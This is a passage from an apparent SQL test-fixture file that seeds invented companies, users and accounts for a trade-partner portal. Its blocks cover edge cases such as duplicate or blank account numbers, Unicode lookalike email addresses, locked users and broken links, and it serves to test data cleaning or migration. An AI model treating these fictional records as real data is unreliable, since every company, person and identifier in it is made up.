  (901, 9, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Uma', 'Wing', 'uma@closed-wing.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2012-01-01 00:00:00');
INSERT INTO security_model VALUES
  (901, 9, 'Open wing', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (902, 9, 'Closed wing', 'EXTRACTION', 901, '2013-01-01 00:00:00', 'Y', '2019-01-01 00:00:00'),
  (903, 9, 'Wing with a small y', 'EXTRACTION', 901, '2014-01-01 00:00:00', 'y', '2019-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, created_at, modified_at) VALUES
  (901, 901, 'MPT', '10000901', 'CERTIFIED', '2', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (902, 902, 'MPT', '10000902', 'CERTIFIED', '2', '2013-01-01 00:00:00', '2020-01-01 00:00:00'),
  (903, 903, 'MPT', '10000903', 'CERTIFIED', '2', '2014-01-01 00:00:00', '2020-01-01 00:00:00');

-- 10. Gone Fishing Foods: the whole profile soft-deleted ----------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (10, 'Gone Fishing Foods', '2012-01-01 00:00:00', '2018-01-01 00:00:00', 'Y');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (1001, 'finn@gone-fishing.example', 'x', 'Finn', 'Fisher', 'DELETED', '2012-01-01 00:00:00', '2018-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (1001, 10, 1001, 'OFFICER', 'Y', 'Y', 'Y', 'Finn', 'Fisher', 'finn@gone-fishing.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2012-01-01 00:00:00');
INSERT INTO security_model VALUES (1001, 10, 'Fishing', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, created_at, modified_at) VALUES
  (1001, 1001, 'EXP', '10001001', 'CERTIFIED', '2', '2012-01-01 00:00:00', '2018-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (1001, 10, NULL, 'EIN', '10-0000001', 'Y', NULL, NULL);

-- 11. Old Highway Haulage: carriers from before the split by border -----------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (11, 'Old Highway Haulage', '2004-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (1101, 'hank@old-highway.example', 'x', 'Hank', 'Hauler', 'ACTIVE', '2004-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (1101, 11, 1101, 'OFFICER', 'Y', 'Y', 'Y', 'Hank', 'Hauler', 'hank@old-highway.example', NULL, NULL, '2004-01-01 00:00:00', NULL, '2012-01-01 00:00:00');
INSERT INTO security_model VALUES (1101, 11, 'All borders', 'APPLICATION', NULL, '2004-01-01 00:00:00', 'N', '2004-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, border_crossed_cd, created_at, modified_at) VALUES
  (1101, 1101, 'HWY', '10001101', 'CERTIFIED', '2', 'MEX', '2004-01-01 00:00:00', '2020-01-01 00:00:00'), (1102, 1101, 'HWY', '10001102', 'CERTIFIED', '2', 'CAN', '2004-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1103, 1101, 'HWY', '10001103', 'CERTIFIED', '2', 'BOTH', '2004-01-01 00:00:00', '2020-01-01 00:00:00'), (1104, 1101, 'HWY', '10001104', 'CERTIFIED', '2', NULL, '2004-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1105, 1101, 'HWY', '10001105', 'REMOVED', NULL, 'GUAT', '2004-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (1101, 11, NULL, 'SCAC', 'OHHA', 'Y', NULL, NULL), (1102, 11, NULL, 'USDOT', '7654321', 'Y', NULL, NULL);
INSERT INTO highway_crossing VALUES (1101, '2304'), (1103, '2304'), (1103, '3801');
INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, current_ind) VALUES (1101, 1101, 3, 2022, 'APPROVED', 'Y');
INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
  (1101, 1101, 101, 'A must for the carriers that became HWM and HWC, not applicable to those that stayed HWY.', 'COMPLETE', '2022-01-01 00:00:00');
INSERT INTO agreement_signature (signature_id, agreement_version_id, company_profile_id, signer_user_id, signer_name, signed_at) VALUES
  (1101, 6, 11, 1101, 'Hank Hauler', '2019-02-01 00:00:00');          -- for HWC: on the account that became HWC

-- 12. New Kinds Commerce: business types that is missing from the catalogue ---------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (12, 'New Kinds Commerce', '2022-01-01 00:00:00', '2022-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (1201, 12, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Nia', 'Newman', 'nia@new-kinds.example', NULL, NULL, '2022-01-01 00:00:00', NULL, '2022-01-01 00:00:00');
INSERT INTO security_model VALUES (1201, 12, 'Fulfilment', 'APPLICATION', NULL, '2022-01-01 00:00:00', 'N', '2022-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (1201, 1201, 'EFC', '10001201', 'APPLICANT', '2022-01-01 00:00:00', '2022-01-01 00:00:00'), (1202, 1201, 'imp', '10001202', 'APPLICANT', '2022-01-01 00:00:00', '2022-01-01 00:00:00');

-- 13. Number Please: account numbers that are missing, blank, duplicate, or equal to a generated one --------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES (13, 'Number Please', '2147483647', '2015-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (1301, 13, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Nils', 'Nummer', 'nils@number-please.example', NULL, NULL, '2015-01-01 00:00:00', NULL, '2015-01-01 00:00:00');
INSERT INTO security_model VALUES (1301, 13, 'Numbers', 'APPLICATION', NULL, '2015-01-01 00:00:00', 'N', '2015-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (1301, 1301, '3PL', NULL, 'PRE_APPLICANT', '2015-01-01 00:00:00', '2020-01-01 00:00:00'), (1302, 1301, '3PL', '', 'PRE_APPLICANT', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1303, 1301, '3PL', '   ', 'APPLICANT', '2015-01-01 00:00:00', '2020-01-01 00:00:00'), (1304, 1301, '3PL', '1304-DUP', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1305, 1301, '3PL', '1304-DUP', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'), (1306, 1301, '3PL', 'M000001301', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1307, 1301, '3PL', 'M000001301X', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'), (1308, 1301, '3PL', '1304-dup', 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1309, 1301, '3PL', CAST(X'4E2D31333039FF' AS TEXT), 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1310, 1301, '3PL', CAST(X'4E2D31333039FE' AS TEXT), 'APPROVED', '2015-01-01 00:00:00', '2020-01-01 00:00:00');      -- equal after invalid bytes are replaced

-- 14, 15. Straße Logistik, twice: equal names, two companies ------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES
  (14, 'Straße Logistik GmbH', '1,25', '2013-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (15, '  STRASSE LOGISTIK GMBH' || char(160), ' 12 ', '2013-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (1401, 14, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Jörg', 'Groß', 'joerg@strasse.example', NULL, NULL, '2013-01-01 00:00:00', NULL, '2013-01-01 00:00:00'),
  (1501, 15, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Jo' || char(776) || 'rg', 'Gross', 'jo@strasse-2.example', NULL, NULL, '2013-01-01 00:00:00', NULL, '2013-01-01 00:00:00');
INSERT INTO security_model VALUES (1401, 14, 'Werk 1', 'APPLICATION', NULL, '2013-01-01 00:00:00', 'N', '2013-01-01 00:00:00'), (1501, 15, 'Werk 2', 'APPLICATION', NULL, '2013-01-01 00:00:00', 'N', '2013-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (1401, 1401, 'FMF', '10001401', 'CERTIFIED', '2013-01-01 00:00:00', '2020-01-01 00:00:00'), (1501, 1501, 'FMF', '10001501', 'CERTIFIED', '2013-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (1401, 14, NULL, 'MID', 'DESTR1HAM', 'Y', NULL, NULL), (1501, 15, NULL, 'MID', 'DESTR2HAM', 'Y', NULL, NULL), (1502, 15, NULL, 'RFC', 'STR130101AB1', 'Y', NULL, NULL);

-- 16. Many Hands Forwarding: three primary contacts, and a removed one ---------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES (16, 'Many Hands Forwarding', '2147483648', '2014-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (1601, 'ida@many-hands.example', 'x', 'Ida', 'Hand', 'ACTIVE', '2014-01-01 00:00:00', '2020-01-01 00:00:00'), (1602, 'ole@many-hands.example', 'x', 'Ole', 'Hand', 'ACTIVE', '2014-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (1601, 16, 1601, 'OFFICER', 'Y', 'Y', 'Y', 'Ida', 'Hand', 'ida@many-hands.example', NULL, NULL, '2014-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (1602, 16, 1602, 'OFFICER', 'Y', 'Y', 'Y', 'Ole', 'Hand', 'ole@many-hands.example', NULL, NULL, '2014-01-01 00:00:00', NULL, '2022-01-01 00:00:00'),
  (1603, 16, NULL, 'EMPLOYEE', 'Y', 'N', 'Y', 'Una', 'Hand', 'una@many-hands.example', NULL, NULL, '2014-01-01 00:00:00', NULL, '2022-01-01 00:00:00'),
  (1604, 16, NULL, 'EMPLOYEE', 'Y', 'N', 'Y', 'Asa', 'Hand', 'asa@many-hands.example', NULL, NULL, '2014-01-01 00:00:00', '2023-01-01 00:00:00', '2023-01-01 00:00:00');
INSERT INTO security_model VALUES (1601, 16, 'Hands', 'APPLICATION', NULL, '2014-01-01 00:00:00', 'N', '2014-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, sub_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (1601, 1601, 'CON', 'OTI', '10001601', 'CERTIFIED', '2014-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (1601, 16, NULL, 'IATA', '01-2 3456', 'Y', NULL, NULL);
INSERT INTO consolidator_mode VALUES (1601, 'AIR');

-- 17. Vantage Toys: its primary contact is a consultant who also works for profiles 1, 2 and 23; it has no bond -----------------------------
INSERT INTO company_profile (company_profile_id, company_name, employee_count_txt, created_at, modified_at, deleted_ind) VALUES (17, 'Vantage Toys', '٣', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, job_title, user_status_cd, last_login_at, created_at, modified_at) VALUES
  (1701, 'per@lindqvist.example', 'x', 'Per', 'Lindqvist', 'Consultant', 'ACTIVE', '2023-09-15 23:59:59', '2012-01-01 00:00:00', '2023-09-15 23:59:59');
INSERT INTO company_contact VALUES
  (1701, 17, 1701, 'CONSULTANT', 'Y', 'Y', 'Y', 'Per', 'Lindqvist', 'per@lindqvist.example', NULL, 1, '2012-01-01 00:00:00', NULL, '2021-01-01 00:00:00'),
  (1702, 17, NULL, 'OFFICER', 'N', 'N', 'N', 'Val', 'Tage', NULL, NULL, NULL, '2012-01-01 00:00:00', NULL, '2021-01-01 00:00:00');
INSERT INTO security_model VALUES (1701, 17, 'Toys', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, created_at, modified_at) VALUES
  (1701, 1701, 'IMP', '10001701', 'CERTIFIED', '2', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (1701, NULL, 1701, 'IOR', '17-0000001', 'Y', NULL, NULL);

-- 18. One Mailbox Brokers: many users, few addresses ------------------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (18, 'One Mailbox Brokers', '2010-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, last_login_at, created_at, modified_at) VALUES
  (1801, 'Ana.Lopez@one-mailbox.example', 'x', 'Ana', 'López', 'ACTIVE', '2020-01-01 00:00:00', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1802, ' ANA.LOPEZ@ONE-MAILBOX.EXAMPLE ', 'x', ' ana', 'LÓPEZ ', 'DISABLED', '2022-01-01 00:00:00', '2015-01-01 00:00:00', '2022-01-01 00:00:00'),
  (1803, 'desk@one-mailbox.example', 'x', 'Bo', 'Berg', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1804, 'Desk@one-mailbox.example', 'x', 'Cy', 'Dahl', 'ACTIVE', '2021-01-01 00:00:00', '2010-01-01 00:00:00', '2021-01-01 00:00:00'),
  (1805, 'DESK@one-mailbox.example', 'x', NULL, NULL, 'ACTIVE', '2021-01-01 00:00:00', '2010-01-01 00:00:00', '2021-01-01 00:00:00'),
  (1806, 'a.na@one-mailbox.example', 'x', 'Ana', 'Dot', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1807, 'ana@one-mailbox.example', 'x', 'Ana', 'Dot', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1808, 'ana+ctpat@one-mailbox.example', 'x', 'Ana', 'Dot', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1809, char(1072) || 'na@one-mailbox.example', 'x', 'Ana', 'Dot', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),        -- a Cyrillic a
  (1810, 'Straße@one-mailbox.example', 'x', 'Eva', 'Weiß', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1811, 'STRASSE@one-mailbox.example', 'x', 'EVA', 'WEISS', 'ACTIVE', NULL, '2011-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1812, char(65313) || 'na@one-mailbox.example', 'x', 'Ana', 'Wide', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),       -- a full-width A
  (1813, char(304) || 'pek@one-mailbox.example', 'x', 'Ipek', 'Ak', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'),         -- a capital I with a dot
  (1814, 'ipek@one-mailbox.example', 'x', 'Ipek', 'Ak', 'ACTIVE', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact (contact_id, company_profile_id, user_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, first_name, added_at, modified_at) VALUES
  (1801, 18, 1801, 'OFFICER', 'Y', 'Y', 'Y', 'Ana', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1802, 18, 1802, 'EMPLOYEE', 'N', 'N', 'N', 'Ana', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1803, 18, 1803, 'EMPLOYEE', 'N', 'N', 'N', 'Bo', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1804, 18, 1804, 'EMPLOYEE', 'N', 'N', 'N', 'Cy', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1805, 18, 1805, 'EMPLOYEE', 'N', 'N', 'N', NULL, '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1806, 18, 1806, 'EMPLOYEE', 'N', 'N', 'N', 'Ana', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1807, 18, 1807, 'EMPLOYEE', 'N', 'N', 'N', 'Ana', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1808, 18, 1808, 'EMPLOYEE', 'N', 'N', 'N', 'Ana', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1809, 18, 1809, 'EMPLOYEE', 'N', 'N', 'N', 'Ana', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1810, 18, 1810, 'EMPLOYEE', 'N', 'N', 'N', 'Eva', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1811, 18, 1811, 'EMPLOYEE', 'N', 'N', 'N', 'Eva', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1812, 18, 1812, 'EMPLOYEE', 'N', 'N', 'N', 'Ana', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1813, 18, 1813, 'EMPLOYEE', 'N', 'N', 'N', 'Ipek', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1814, 18, 1814, 'EMPLOYEE', 'N', 'N', 'N', 'Ipek', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO security_model VALUES (1801, 18, 'Mailbox', 'APPLICATION', NULL, '2010-01-01 00:00:00', 'N', '2010-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (1801, 1801, 'BRK', '10001801', 'CERTIFIED', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (1801, 18, NULL, 'FILER', 'XYZ', 'Y', NULL, NULL), (1802, 18, NULL, 'LICENSE', '1801', 'Y', NULL, NULL);

-- 19. Locked Gates Rail: users locked for every reason, users without a usable address, users without data ----------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (19, 'Locked Gates Rail', '2010-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, lock_reason_cd, last_login_at, created_at, modified_at) VALUES
  (1901, char(12288) || 'pat@locked-gates.example', 'x', 'Pat', 'Gate', 'LOCKED', 'PASSWORD', '2022-01-01 00:00:00', '2010-01-01 00:00:00', '2022-01-01 00:00:00'),   -- an ideographic space in front
  (1902, 'idle@locked-gates.example', 'x', 'Ida', 'Idle', 'LOCKED', 'IDLE', '2020-01-01 00:00:00', '2010-01-01 00:00:00', '2022-01-01 00:00:00'),
  (1903, 'dis@locked-gates.example', 'x', 'Dis', 'Abled', 'DISABLED', NULL, '2020-01-01 00:00:00', '2010-01-01 00:00:00', '2022-01-01 00:00:00'),
  (1904, 'del@locked-gates.example', 'x', 'Del', 'Eted', 'DELETED', NULL, '2020-01-01 00:00:00', '2010-01-01 00:00:00', '2022-01-01 00:00:00'),
  (1905, 'com@locked-gates.example', 'x', 'Com', 'Pany', 'LOCKED', 'COMPANY_STATUS', '2020-01-01 00:00:00', '2010-01-01 00:00:00', '2022-01-01 00:00:00'),
  (1906, 'new@locked-gates.example', 'x', 'Ne', 'Ver', 'ACTIVE', NULL, NULL, '2023-09-01 00:00:00', '2023-09-01 00:00:00'),
  (1907, 'ask for Joe', 'x', 'Joe', 'Ask', 'ACTIVE', NULL, NULL, '2010-01-01 00:00:00', '2010-01-01 00:00:00'),
  (1908, 'a@b@locked-gates.example', 'x', 'Two', 'Ats', 'ACTIVE', NULL, NULL, '2010-01-01 00:00:00', '2010-01-01 00:00:00'),
  (1909, ' @locked-gates.example', 'x', 'No', 'Body', 'ACTIVE', NULL, NULL, '2010-01-01 00:00:00', '2010-01-01 00:00:00'),
  (1910, 'white' || char(160) || 'space@locked-gates.example', 'x', 'White', 'Space', 'ACTIVE', NULL, NULL, '2010-01-01 00:00:00', '2010-01-01 00:00:00'),
  (1911, NULL, 'x', 'No', 'Name', 'ACTIVE', NULL, NULL, '2010-01-01 00:00:00', '2010-01-01 00:00:00'),
  (1912, 'alone@locked-gates.example', 'x', 'A', 'Lone', 'ACTIVE', NULL, NULL, '2010-01-01 00:00:00', '2010-01-01 00:00:00'),
  (1913, 'lost@locked-gates.example', 'x', 'Lost', 'Link', 'ACTIVE', NULL, NULL, '2010-01-01 00:00:00', '2010-01-01 00:00:00');
INSERT INTO company_contact (contact_id, company_profile_id, user_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, first_name, added_at, modified_at) VALUES
  (1901, 19, 1901, 'OFFICER', 'Y', 'Y', 'Y', 'Pat', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1902, 19, 1902, 'EMPLOYEE', 'N', 'N', 'N', 'Ida', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1903, 19, 1903, 'EMPLOYEE', 'N', 'N', 'N', 'Dis', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1904, 19, 1904, 'EMPLOYEE', 'N', 'N', 'N', 'Del', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1905, 19, 1905, 'EMPLOYEE', 'N', 'N', 'N', 'Com', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1906, 19, 1906, 'EMPLOYEE', 'N', 'N', 'N', 'Ne', '2023-09-01 00:00:00', '2023-09-01 00:00:00'),
  (1907, 19, 1907, 'EMPLOYEE', 'N', 'N', 'N', 'Joe', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1908, 19, 1908, 'EMPLOYEE', 'N', 'N', 'N', 'Two', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1909, 19, 1909, 'EMPLOYEE', 'N', 'N', 'N', 'No', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1910, 19, 1910, 'EMPLOYEE', 'N', 'N', 'N', 'White', '2010-01-01 00:00:00', '2020-01-01 00:00:00'),
  (1911, 19, 1911, 'EMPLOYEE', 'N', 'N', 'N', 'No', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (1912, 19, 1999, 'EMPLOYEE', 'N', 'N', 'N', 'Nobody', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO security_model VALUES (1901, 19, 'Gates', 'APPLICATION', NULL, '2010-01-01 00:00:00', 'N', '2010-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (1901, 1901, 'RAIL', '10001901', 'CERTIFIED', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (1901, NULL, 1901, 'SCAC', 'LGRA', 'Y', NULL, NULL);
INSERT INTO document (document_id, library_cd, company_profile_id, file_name, version_no, uploaded_by_user_id, uploaded_at, deleted_ind) VALUES
  (1901, 'PARTNER', 19, 'by-joe.txt', 1, 1907, '2012-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES (1901, CAST('Uploaded by somebody without an address.' AS BLOB));

-- 20. Nobody at Home: no primary contact, its officer removed ---------------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (20, 'Nobody at Home', '2010-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (2001, 'may@nobody.example', 'x', 'May', 'Home', 'ACTIVE', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (2002, 'gone@nobody.example', 'x', 'Gone', 'Home', 'ACTIVE', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (2001, 20, 2001, 'EMPLOYEE', 'N', 'Y', 'Y', 'May', 'Home', 'may@nobody.example', NULL, 99, '2010-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),     -- consultant company 99 does not exist
  (2002, 20, 2002, 'OFFICER', 'Y', 'Y', 'Y', 'Gone', 'Home', 'gone@nobody.example', NULL, NULL, '2010-01-01 00:00:00', '2019-01-01 00:00:00', '2019-01-01 00:00:00');
INSERT INTO security_model VALUES (2001, 20, 'Home', 'APPLICATION', NULL, '2010-01-01 00:00:00', 'N', '2010-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (2001, 2001, 'EXP', '10002001', 'CERTIFIED', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (2001, 20, NULL, 'DUNS', '200000001', 'Y', NULL, NULL);

-- 21. Document House and 22. Next Door: every outcome for a document and a link -----------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES
  (21, 'Document House', '2010-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (22, 'Next Door', '2010-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (2101, 'doc@document-house.example', 'x', 'Doc', 'Holder', 'ACTIVE', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (2201, 'nia@next-door.example', 'x', 'Nia', 'Door', 'ACTIVE', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (2101, 21, 2101, 'OFFICER', 'Y', 'Y', 'Y', 'Doc', 'Holder', 'doc@document-house.example', NULL, NULL, '2010-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (2201, 22, 2201, 'OFFICER', 'Y', 'Y', 'Y', 'Nia', 'Door', 'nia@next-door.example', NULL, NULL, '2010-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES
  (2101, 21, 'Front house', 'APPLICATION', NULL, '2010-01-01 00:00:00', 'N', '2010-01-01 00:00:00'), (2102, 21, 'Back house', 'EXPANSION', 2101, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
  (2201, 22, 'Next door', 'APPLICATION', NULL, '2010-01-01 00:00:00', 'N', '2010-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, created_at, modified_at) VALUES
  (2101, 2101, 'EXP', '10002101', 'CERTIFIED', '2', '2010-01-01 00:00:00', '2020-01-01 00:00:00'), (2102, 2102, '3PL', '10002102', 'CERTIFIED', '2', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (2201, 2201, 'EXP', '10002201', 'CERTIFIED', '2', '2010-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (2101, 21, NULL, 'EIN', '21-0000001', 'Y', NULL, NULL), (2201, 22, NULL, 'EIN', '22-0000001', 'Y', NULL, NULL);
INSERT INTO agreement_signature (signature_id, agreement_version_id, company_profile_id, entity_id, signer_user_id, signer_name, signed_at) VALUES (2101, 2, 21, 2101, 2101, 'Doc Holder', '2016-01-01 00:00:00');
INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, current_ind) VALUES
  (2101, 2101, 3, 2022, 'APPROVED', 'Y'), (2102, 2102, 3, 2022, 'APPROVED', 'Y'), (2201, 2201, 3, 2022, 'APPROVED', 'Y');
INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
  (2101, 2101, 101, 'Of the front house.', 'COMPLETE', '2022-01-01 00:00:00'), (2102, 2102, 101, 'Of the back house.', 'COMPLETE', '2022-01-01 00:00:00'),
  (2201, 2201, 101, 'Of next door.', 'COMPLETE', '2022-01-01 00:00:00');
INSERT INTO validation (validation_id, company_profile_id, security_model_id, validation_type_cd, status_cd) VALUES (2101, 21, 2101, 'INITIAL', 'CLOSED'), (2201, 22, 2201, 'INITIAL', 'CLOSED');
INSERT INTO validation_finding VALUES (2101, 2101, 101, 'ACTION_REQUIRED', 'Send the photographs.', NULL, 'CLOSED');
INSERT INTO finding_response (finding_response_id, finding_id, seq_no, response_text) VALUES (2101, 2101, 1, 'The photographs.');
INSERT INTO message_thread VALUES (2101, 21, NULL, 'Photographs', '2020-01-01 00:00:00');
INSERT INTO message VALUES (2101, 2101, 2101, NULL, 'See the attachment.', '2020-01-01 00:00:00');
-- which accounts (C1), links (C2, C3)
INSERT INTO document (document_id, library_cd, company_profile_id, security_model_id, file_name, version_no, uploaded_at, deleted_ind) VALUES
  (2101, 'PARTNER', 21, 2101, 'of-the-front-house.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2102, 'PARTNER', 21, NULL, 'of-the-whole-profile.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2103, 'PARTNER', 21, NULL, 'linked-to-both-houses.txt', 1, '2020-01-01 00:00:00', 'N'),
